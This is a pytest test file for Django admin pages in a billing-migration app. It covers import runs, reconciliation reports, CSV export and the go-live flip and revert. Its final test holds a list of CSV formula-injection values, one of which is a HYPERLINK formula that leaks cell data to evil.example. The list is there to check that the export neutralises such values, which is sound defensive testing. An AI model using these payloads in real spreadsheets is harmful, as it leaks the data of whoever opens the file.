"""Admin pages through the Django test client."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from identity.models import Customer
from metering.models import Subscription
from migration.models import ImportRun, Reconciliation
from migration.reader import NexaCloudReader
from migration.reconciliation import reconcile_rows
from migration.services import import_nexacloud
from migration.testing.fake_gateway import RecordingGateway
from migration.testing.source_db import Fixture as F

pytestmark = pytest.mark.django_db


@pytest.fixture
def sync_import(settings, nexacloud_dsn):
    settings.MIGRATION_IMPORT_SYNCHRONOUS = True
    settings.NEXACLOUD_DSN = nexacloud_dsn


def test_import_page_warns_when_service_is_missing(admin_client, sync_import):
    page = admin_client.get(reverse("admin:migration_importrun_import"))
    assert page.status_code == 200
    assert b"Import from NexaCloud" in page.content and b"service does not exist" in page.content


def test_dry_run_from_admin_shows_red_banner_counts_and_failures(admin_client, service, sync_import):
    response = admin_client.post(reverse("admin:migration_importrun_import"), {"dry_run": "on"})
    run = ImportRun.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse(
        "admin:migration_importrun_change", args=[run.pk])
    assert run.dry_run and run.started_by == "admin" and Subscription.objects.count() == 0
    page = admin_client.get(response["Location"]).content.decode()
    assert 'data-banner="red"' in page and "3 row(s) failed" in page and "dry run, rolled back" in page
    assert "UnknownBillingCycle" in page and F.DEP_ORPHAN in page and "PriceNotSoldOnCycle" in page
    assert page.count('class="fb-failure"') == 3


def test_banner_colours(admin_client, service, sync_import, empty_source_dsn, settings):
    run = import_nexacloud(dsn=None)  # the fixture source: failed rows
    assert run.banner == "red"
    settings.NEXACLOUD_DSN = empty_source_dsn
    clean = import_nexacloud()
    page = admin_client.get(reverse("admin:migration_importrun_change", args=[clean.pk])).content.decode()
    assert 'data-banner="green"' in page and "Clean import" in page
    settings.NEXACLOUD_DSN = "postgresql://nobody@127.0.0.1:1/none"
    fatal = import_nexacloud()
    page = admin_client.get(reverse("admin:migration_importrun_change", args=[fatal.pk])).content.decode()
    assert 'data-banner="red"' in page and "Import failed: Cannot connect" in page
    amber = ImportRun.objects.create(status="succeeded", counts={"users": {"skipped": 1}})
    page = admin_client.get(reverse("admin:migration_importrun_change", args=[amber.pk])).content.decode()
    assert 'data-banner="amber"' in page
    listing = admin_client.get(reverse("admin:migration_importrun_changelist")).content.decode()
    assert "Import from NexaCloud" in listing


@pytest.mark.slow
def test_admin_import_runs_on_a_celery_worker(admin_client, start_celery_worker, nexacloud_dsn, settings):
    import time

    from identity.models import Service

    Service.objects.create(code="nexacloud", name="NexaCloud")
    settings.NEXACLOUD_DSN = nexacloud_dsn
    settings.MIGRATION_IMPORT_SYNCHRONOUS = False
    start_celery_worker(queues="celery", env={"NEXACLOUD_DSN": nexacloud_dsn})
    response = admin_client.post(reverse("admin:migration_importrun_import"), {})
    run = ImportRun.objects.get()
    running_page = admin_client.get(response["Location"]).content.decode()
    assert 'data-banner="running"' in running_page or 'data-banner="red"' in running_page
    deadline = time.monotonic() + 60
    while run.status == "running" and time.monotonic() < deadline:
        time.sleep(0.2)
        run.refresh_from_db()
    assert run.status == "rows_failed" and not run.dry_run and run.phase == "done"
    assert run.counts["deployments"]["created"] == 5 and Subscription.objects.count() == 5
    assert run.failures.count() == 3


@pytest.fixture
def reconciled(service, nexacloud_dsn):
    import_nexacloud(dsn=nexacloud_dsn)
    with NexaCloudReader(nexacloud_dsn) as reader:
        reconcile_rows(service=service, billed=reader.billed_periods())


def test_reconciliation_report_totals_filters_and_csv(admin_client, reconciled):
    url = reverse("admin:migration_reconciliation_changelist")
    page = admin_client.get(url).content.decode()
    assert 'id="period-totals"' in page and "2026-10-01" in page
    assert "73.833335" in page  # fusion total of the period: 12.75 + 49 + 12.083335 + 0 (free)
    filtered = admin_client.get(url, {"status__exact": "missing_in_fusion"}).content.decode()
    assert F.DEP_BAD_CYCLE in filtered and F.DEP_ALICE_PRO not in filtered
    export = admin_client.get(reverse("admin:migration_reconciliation_export"), {"status__exact": "match"})
    assert export["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert {r["external_subscription_id"] for r in rows} == {F.DEP_ALICE_STARTER, F.DEP_ALICE_PRO, F.DEP_BOB_STARTER}
    assert all(r["status"] == "match" for r in rows)
    by_period = admin_client.get(url, {"period_start": "2026-10-01"})
    assert by_period.status_code == 200 and Reconciliation.objects.count() == 5


def test_golive_page_preflight_flip_and_revert(admin_client, reconciled, fake_stripe, settings):
    RecordingGateway.reset()
    settings.STRIPE_API_KEY = fake_stripe.api_key
    settings.STRIPE_API_BASE = fake_stripe.url
    settings.MIGRATION_LIVE_ORDER_GATEWAY = "migration.testing.fake_gateway.RecordingGateway"
    Customer.objects.filter(email="alice@example.com").update(odoo_partner_id=41)
    fake_stripe.add_ready_customer("cus_alice", "pm_alice")
    url = reverse("admin:migration_golive")

    page = admin_client.post(url, {"service": "nexacloud", "action": "preflight"}).content.decode()
    assert 'id="service-checks"' in page and "2 of 5 ready" in page
    assert "odoo_partner: customer has no Odoo partner yet" in page

    starter = Subscription.objects.get(external_id=F.DEP_ALICE_STARTER)
    bob = Subscription.objects.get(external_id=F.DEP_BOB_STARTER)
    page = admin_client.post(url, {"service": "nexacloud", "action": "go_live",
                                   "subscription": [starter.pk, bob.pk]}, follow=True).content.decode()
    starter.refresh_from_db()
    assert starter.mode == "live" and "live: sale.order 1001" in page and "preflight failed" in page
    assert 'id="live"' in page and F.DEP_ALICE_STARTER in page

    admin_client.post(url, {"service": "nexacloud", "action": "revert", "subscription": [starter.pk]})
    starter.refresh_from_db()
    assert starter.mode == "shadow"
    attempts = admin_client.get(reverse("admin:migration_goliveattempt_changelist"))
    assert attempts.status_code == 200 and b"back to shadow" in attempts.content


def test_admin_import_with_the_broker_down_fails_the_run_clearly(admin_client, settings, monkeypatch,
                                                                 django_capture_on_commit_callbacks):
    from kombu.exceptions import OperationalError

    from migration.tasks import run_import

    def broker_down(*args, **kwargs):
        raise OperationalError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")

    settings.MIGRATION_IMPORT_SYNCHRONOUS = False
    monkeypatch.setattr(run_import, "delay", broker_down)
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(reverse("admin:migration_importrun_import"), {"dry_run": "on"})
    assert response.status_code == 302
    run = ImportRun.objects.get()
    assert run.status == "failed" and "broker" in run.fatal_error
    assert 'data-banner="red"' in admin_client.get(response["Location"]).content.decode()


HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
               "\tcmd", "\r=1+1"]


def test_csv_export_neutralises_formula_prefixes(admin_client, service):
    for n, external_id in enumerate(HOSTILE_IDS):
        Reconciliation.objects.create(
            service=service, external_subscription_id=external_id, period_start=date(2026, 10, 1),
            period_end=date(2026, 11, 1), fusion_amount=Decimal("7.5"), source_amount=Decimal("12.5"),
            delta=Decimal("-5.000000"), status="mismatch")
    export = admin_client.get(reverse("admin:migration_reconciliation_export"))
    rows = list(csv.DictReader(io.StringIO(export.content.decode(), newline="")))
    assert sorted(r["external_subscription_id"] for r in rows) == sorted("'" + i for i in HOSTILE_IDS)
    # numbers we computed stay numbers, negative ones included
    assert {r["delta"] for r in rows} == {"-5.000000"}
    assert {r["service"] for r in rows} == {service.code}
